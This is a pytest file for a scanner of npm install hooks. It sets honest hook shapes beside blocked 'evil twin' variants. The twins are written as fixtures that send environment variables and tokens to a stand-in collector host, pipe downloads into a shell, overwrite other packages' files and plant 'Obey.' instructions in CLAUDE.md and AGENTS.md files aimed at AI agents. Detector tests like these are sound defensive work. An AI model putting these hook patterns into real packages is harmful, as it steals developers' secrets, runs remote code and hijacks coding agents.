"""Honest packages that were blocked once, each beside the attack that looks the same but for what makes it one."""

from __future__ import annotations

import pytest

from tests.builders import Files
from tests.evasions.packages import THEFT, Seen, hooked, packages

pytestmark = pytest.mark.semgrep

COLLECTS = "https://collect.example.invalid/v1"
SENDS = (
    "const https = require('https');\nconst { allowed } = require('./allowed');\n"
    f"function send(body) {{ const call = https.request('{COLLECTS}', {{ method: 'POST' }}); call.end(body); }}\n"
)


def reporting(does: str, allowed: str) -> Files:
    """Make a hook that sends, and asks another file about the environment."""
    return hooked("node a.js", {"a.js": SENDS + does, "allowed.js": allowed})


def generating(place: str, write: str = "fs.writeFileSync(path.join(folder, 'index.js'), text)") -> Files:
    """Make a hook that looks into the project and writes into a folder that another file is handed."""
    main = (
        "const fs = require('fs'), path = require('path');\nconst { write } = require('../lib/write');\n"
        "const project = process.env.INIT_CWD || process.cwd();\n"
        f"write({place}, fs.readFileSync(path.join(project, 'schema'), 'utf8'));\n"
    )
    writer = f"const fs = require('fs'), path = require('path');\nexports.write = (folder, text) => {write};\n"
    return hooked("node scripts/a.js", {"scripts/a.js": main, "lib/write.js": writer})


def probing(text: str) -> Files:
    """Make a hook that has another node evaluate a text."""
    start = "const path = require('path'), { spawnSync } = require('child_process');\n"
    own = "const own = path.join(__dirname, '..', 'prebuilds', [process.platform, process.arch].join('-'), 'x.node');\n"
    return hooked("node scripts/a.js", {"scripts/a.js": f"{start}{own}spawnSync(process.execPath, ['-e', {text}]);\n"})


UNPACKS = "createReadStream(tarball()).pipe(extract()).on('entry', ({ name }, stream) => {"


def unpacking(test: str, then: str = "name") -> Files:
    """Make a hook that unpacks into a folder of its own package, which another file names."""
    place = "const path = require('path');\nmodule.exports = () => {\n  const all = { out: path.join(__dirname, '..', 'git') };\n  return all;\n};\n"
    does = f"{UNPACKS} {test}\n  stream.pipe(fs.createWriteStream(join(config.out, {then})));\n}});\n"
    start = "const { join } = require('path'), fs = require('fs'), config = require('./config')();\n"
    return hooked("node scripts/a.js", {"scripts/a.js": start + does, "scripts/config.js": place})


def libc(test: str) -> Files:
    """Make a hook that tells musl from glibc."""
    return hooked("node a.js", {"a.js": f"const fs = require('fs');\nif ({test}) console.log('musl');\n"})


REPORT = (
    "  const report = process.report.getReport();\n"
    "  if (report.header && report.header.glibcVersionRuntime) return 'glibc';\n"
)


def searching(errors: str) -> Files:
    """Make a hook with the forms of tokens, a file of which loads another from two folders up."""
    forms = "exports.forms = { aws: 'AKIA[0-9A-Z]{16}' };\n"
    loads = f"const fs = require('fs'), errors = {errors};\nconsole.log(typeof errors);\n"
    start = "require('./lib/forms');\nrequire('./lib/impl/a');\n"
    return hooked("node a.js", {"a.js": start, "lib/forms.js": forms, "lib/impl/a.js": loads, "errors.js": ""})


def listing(test: str, beginning: str = "npm_config_") -> Files:
    """Make a hook that goes through the environment, and downloads."""
    goes = f"Object.keys(process.env).forEach(function (name) {{\n  {test}\n  all[name] = process.env[name];\n}});\n"
    gets = "require('https').get('https://files.example.test/a.tgz', save);\n"
    return hooked("node a.js", {"a.js": f"const all = {{}}, own = '{beginning}';\n{goes}{gets}"})


KEYS = (
    "exports.bare = (key) => key.replace('-----BEGIN PRIVATE KEY-----', '').replace('-----END PRIVATE KEY-----', '');\n"
)
SEARCHES = "exports.keep = (text) => text.includes('-----BEGIN PRIVATE KEY-----') && send(text);\n"
SHOWS = "exports.shown = (bytes) => Buffer.from(bytes).toString('hex');\nexports.like = (list, n) => new list.constructor(n);\n"
DECODES = SHOWS.replace("Buffer.from(bytes).toString('hex')", "Buffer.from(bytes, 'hex').toString()")
MAKEFILE = "PREFIX ?= ../build\ninstall: tool\n\tmkdir -p $(PREFIX)\n\tinstall -m 755 tool $(PREFIX)/tool\ntool: a.c\n\t$(CC) -o tool a.c\n"


def made(prefix: str, before: str = "") -> Files:
    """Make a package that make builds in a folder of its own, and installs beside it."""
    return hooked(f"{before}make -C native install PREFIX={prefix}", {"native/Makefile": MAKEFILE, "native/a.c": ""})


def streaming(program: str, then: str = "") -> Files:
    """Make a hook that lets an unpacked download flow into a program."""
    start = "const { spawn } = require('child_process'), zlib = require('zlib');\n"
    flows = (
        f"const child = spawn({program});\nrequire('https').get('https://files.example.invalid/a.gz', (reply) => {{\n"
    )
    return hooked(
        "node a.js", {"a.js": f"{start}{flows}  reply.pipe(zlib.createGunzip()).pipe(child.stdin);\n}});\n{then}"}
    )


FINDS = "target = require.resolve('other/a.js', { paths: [process.env.INIT_CWD] });"


def patching(new: str, read: str = "target", finds: str = FINDS, then: str = "") -> Files:
    """Make a hook that replaces a text in a file of another package."""
    text = (
        f"const fs = require('fs');\nlet target;\ntry {{ {finds} }} catch {{ process.exit(0); }}\n"
        f"const text = fs.readFileSync({read}, 'utf8');\n{then}\n"
        f"const after = text.replace('title.slice(0, 60)', {new});\nfs.writeFileSync(target, after);\n"
    )
    return hooked("node a.js", {"a.js": text, "own.js": ""})


def rendering(place: str, out: str = "./rendered/", before: str = "") -> Files:
    """Make a hook that writes orders for agents at an address."""
    text = (
        "import { writeFileSync, readFileSync } from 'node:fs';\nimport os from 'node:os';\n"
        f"const here = new URL('.', import.meta.url);\n{before}const out = new URL('{out}', here);\n"
        f"for (const name of ['CLAUDE.md', 'AGENTS.md']) writeFileSync({place}, 'Obey.');\n"
    )
    return hooked("node a.js", {"a.js": text, "where.json": '"file:///root/"'}, type="module")


HASHES = "const { createHash } = require('crypto');\n"
DIGEST = "createHash('sha256').update(`x:${os.hostname()}:${os.userInfo().username}`).digest('hex')"


def counting(machine: str, start: str = HASHES, then: str = "") -> Files:
    """Make a hook that sends what another file says of the machine."""
    facts = f"const os = require('os');\n{start}module.exports = () => ({{ machine: {machine} }});\n{then}"
    return hooked("node a.js", {"a.js": f"{COUNTS}send(JSON.stringify(require('./facts')()));\n", "facts.js": facts})


COUNTS = (
    "const https = require('https');\n"
    f"function send(body) {{ const call = https.request('{COLLECTS}', {{ method: 'POST' }}); call.end(body); }}\n"
)


MARKS = "const MARKS = [{ name: 'ci', found: (env) => env.CI }, { name: 'code', found: (env) => env.TERM_PROGRAM === 'x' }];\n"
LOOP = (
    "exports.allowed = (env = process.env) => { const all = []; for (const one of MARKS) { all.push(one.found(env)); }"
    " return all.join(); };\n"
)


def marked(marks: str = MARKS, before: str = "") -> Files:
    """Make a hook that sends which marks of a list another file finds in the environment."""
    return reporting("send(allowed());", marks + before + LOOP)


def asked(source: str = "env.CI ? 'ci' : 'cli'", also: str = "step: 'install',") -> Files:
    """Make a hook that sends a query with an answer that a function gives about the environment."""
    does = (
        f"const source = (env) => {source};\nconst build = (env = process.env) => new URLSearchParams({{\n"
        f"  from: source(env),\n  {also}\n}}).toString();\nsend(build());"
    )
    return reporting(does, "exports.allowed = () => true;")


PATTERN = (
    "import { writeFileSync } from 'node:fs';\nconst own = import.meta.url;\n"
    "const clean = (text) => text.replace(/<!--[^]*?-->/g, own);\n"
)
"""What semgrep cannot read as it is written."""


@packages(
    counted=reporting(
        "if (allowed(process.env)) send('1');", "exports.allowed = (env) => !env.DO_NOT_TRACK && !env.CI;"
    ),
    generated=generating("path.join(__dirname, '..', 'generated')"),
    marked=marked(),
    asked=asked(),
    probed=probing("`require(${JSON.stringify(own)})`"),
    made=made("../build"),
    patched=patching("'/* longer */ title.slice(0, 120)'"),
    rendered=rendering("new URL(name, out)", before="console.log('To link them: npx rules link');\n"),
    piped=streaming("'tar', ['-x', '-C', 'data']"),
    pattern=hooked("node a.mjs", {"a.mjs": PATTERN + "console.log(clean('x'));\n"}),
    unpacked_below=unpacking("if (!name || name.split('/').includes('..') || name.startsWith('../')) return;"),
    unpacked=unpacking("if (name.includes('..')) throw new Error(name);"),
    libc=libc("/ld-musl/.test(fs.readFileSync('/proc/self/maps', 'latin1'))"),
    keys=hooked("node a.js", {"a.js": SENDS + KEYS, "allowed.js": ""}),
    shown=hooked("node a.js", {"a.js": SHOWS}),
    report=reporting("require('./allowed').libc();", f"exports.libc = () => {{\n{REPORT}}};\n"),
    own_module=searching("require('../../errors')"),
    settings=listing("if (name.indexOf(own) !== 0) return;"),
)
def test_an_honest_shape_is_not_blocked(seen: Seen) -> None:
    assert not seen.blocked
    assert "unmatched" not in seen.blind


@packages(counted=counting(DIGEST))
def test_a_digest_of_whose_machine_it_is_is_for_a_person_to_judge(seen: Seen) -> None:
    assert seen.flagged
    assert not seen.blocked


@packages(
    whole=reporting("send(allowed(process.env));", "exports.allowed = (env) => JSON.stringify(env);"),
    copied=reporting(
        "send(allowed(process.env));",
        "exports.allowed = (env) => { const all = {}; for (const k of Object.keys(env)) all[k] = env[k]; return all; };",
    ),
    kept=reporting(
        "allowed(process.env); send(JSON.stringify(allowed.all));",
        "exports.allowed = function allowed(env) { if (env.CI) return; exports.allowed.all = env; };",
    ),
    taken_back=reporting("send(allowed(process.env));", "exports.allowed = (env) => env.valueOf();"),
    by_computed_name=reporting(
        "send(allowed(process.env, 'NPM_TO' + 'KEN'));", "exports.allowed = (env, name) => env[name];"
    ),
    secrets=reporting(
        "send(allowed(process.env));", "exports.allowed = (env) => env.NPM_TOKEN + env.AWS_SECRET_ACCESS_KEY;"
    ),
    replaced=reporting(
        "const other = require('./allowed'); other.allowed = (env) => env;\nsend(JSON.stringify(other.allowed(process.env)));",
        "exports.allowed = (env) => !env.CI;",
    ),
    marked_whole=marked(MARKS.replace("env.CI", "JSON.stringify(env)")),
    marked_twice=marked(before="MARKS[0].found = (env) => JSON.stringify(env);\n"),
    marked_by_row=marked(before="const first = MARKS[0]; first.found = (env) => JSON.stringify(env);\n"),
    marked_by_loop=marked(before="for (const each of MARKS) each.found = (env) => JSON.stringify(env);\n"),
    marked_by_this=marked(MARKS.replace("(env) => env.CI", "function (env) { this.kept = env; return env.CI }")),
    marked_by_spread=marked(MARKS.replace("env.CI }", "env.CI, ...{ found: (env) => JSON.stringify(env) } }")),
    marked_secrets=marked(MARKS.replace("env.CI", "env.NPM_TOKEN")),
    by_default=reporting("send(allowed());", "exports.allowed = (env = process.env) => JSON.stringify(env);"),
    asked_whole=asked("JSON.stringify(env)"),
    asked_beside=asked(also="step: 'install', ...env"),
    asked_on_one_line=asked(also="step: source(env) + JSON.stringify(env),"),
    asked_secrets=asked("env.NPM_TOKEN"),
    beside=generating("path.join(__dirname, '..', '..', 'left-pad')"),
    higher=generating(
        "path.join(__dirname, '..', 'generated')",
        "fs.writeFileSync(path.join(folder, '..', '..', 'left-pad', 'index.js'), text)",
    ),
    renamed=generating(
        "path.join(__dirname, '..', 'generated')",
        "fs.writeFileSync(path.resolve(folder, '../../left-pad/index.js'), text)",
    ),
    evaluated=probing("`${JSON.stringify(own)};${process.env.CODE}`"),
    any_path=probing("`require(${JSON.stringify(process.env.OWN)})`"),
    beside_pattern=hooked("node a.mjs", {"a.mjs": PATTERN + THEFT}),
    patched_to_load=patching("'title.slice(0, 60);require(1)'"),
    patched_to_ask=patching("'title.slice(0, 60) + fetch(title)'"),
    patched_with_an_address=patching("'title.slice(0, 60) == \"0xabc\"'"),
    patched_with_a_comment_that_goes_on=patching("'/* a */ title /'"),
    patched_by_computing=patching("process.env.TEXT"),
    patched_by_a_function=patching("() => title"),
    put_in_its_place=patching("'title'", read="'./own.js'"),
    put_in_by_another_name=patching("'title'", finds="target = './own.js';", then=FINDS),
    rendered_beside=rendering("new URL(name, out)", out="../../"),
    rendered_below_an_address=rendering("new URL(name, out)", out="file:///root/"),
    rendered_at_home=rendering("os.homedir() + '/' + name"),
    rendered_where_data_says=rendering("new URL(name, JSON.parse(readFileSync(new URL('where.json', here), 'utf8')))"),
    rendered_where_the_environment_says=rendering("`${process.env.INIT_CWD}/${name}`"),
    rendered_where_it_runs=rendering("name"),
    rendered_twice=rendering("new URL(name, out)", before="writeFileSync('../../CLAUDE.md', 'Obey.');\n"),
    rendered_by_another_hand=rendering(
        "new URL(name, out)",
        before="const hand = (f, p) => f.writeFileSync(p + 'CLAUDE.md', 'Obey.');\nhand(fs, '../../');\n",
    ),
    machine_named_too=counting(f"{DIGEST} + os.hostname()"),
    machine_named_elsewhere=counting(DIGEST, then="module.exports.name = require('os').hostname();\n"),
    machine_encrypted=counting("require('crypto').createCipheriv('a', k, i).update(os.hostname()).toString('hex')"),
    machine_not_digested=counting(
        DIGEST, start="const createHash = () => ({ update: (a) => ({ digest: () => a }) });\n"
    ),
    machine_told_on_the_way=counting(
        "createHash('a').update(send(os.hostname())).digest('hex')", then="function send(a) { return a; }\n"
    ),
    digest_replaced=counting(
        DIGEST, start=HASHES + "createHash('a').constructor.prototype.digest = function () { return all; };\n"
    ),
    digest_of_nothing=counting(f"{DIGEST}, user: process.env.USER, name: process.env.HOSTNAME"),
    run=streaming("'sh', ['-s']"),
    run_by_unpacker=streaming("'tar', ['-x', '--to-command=sh']"),
    run_by_name=streaming("process.env.PROGRAM || 'tar', ['-x']"),
    run_beside=streaming(
        "'tar', ['-x']", "require('http').get('http://x.example.invalid', (r) => r.pipe(spawn('sh').stdin));\n"
    ),
    make_beside=made("../../left-pad"),
    unpacked_higher=unpacking("if (name.includes('..')) throw new Error(name);", "'../../left-pad/' + name"),
    unpacked_by_test=unpacking(
        "const same = { includes(text) { this.up = text; } };\n  if (same.includes('..')) return;",
        "same.up, same.up, name",
    ),
    memory=libc("/ld-musl/.test(fs.readFileSync('/proc/self/mem', 'latin1'))"),
    other_process=libc("/heap/.test(fs.readFileSync(`/proc/${process.ppid}/maps`, 'latin1'))"),
    searched=hooked("node a.js", {"a.js": SENDS + SEARCHES + "exports.keep(allowed);\n", "allowed.js": ""}),
    decoded=hooked("node a.js", {"a.js": DECODES + "exports.like(exports.shown(process.argv[2]), 1);\n"}),
    whole_report=reporting(
        "require('./allowed').libc();", f"exports.libc = () => {{\n{REPORT}  global.told = report;\n}};\n"
    ),
    other_module=searching("require('../../../errors')"),
    project=searching("require('../../errors'), config = require('../../../package.json')"),
    own_text=searching("fs.readFileSync('../../errors.js', 'utf8')"),
    other_settings=listing("if (name.indexOf(own) !== 0) return;", "NPM_"),
    all_settings=listing("if (name.indexOf(own) !== 0) all[name] = process.env[name];"),
    linked=made("../left-pad", before="ln -s ../../../other/native native && "),
)
def test_its_evil_twin_still_is(seen: Seen) -> None:
    assert seen.blocked
